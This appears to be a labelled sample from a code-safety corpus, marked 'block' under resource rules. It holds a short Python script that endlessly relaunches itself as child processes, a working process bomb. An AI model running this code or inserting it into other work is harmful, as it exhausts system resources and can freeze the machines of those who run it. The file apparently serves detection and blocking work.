# pyguard-corpus: verdict=block category=resource rules=PG408,PG101
# what: relaunches its own script as a child process in an endless loop
import subprocess
import sys

while True:
    subprocess.Popen([sys.executable, __file__])
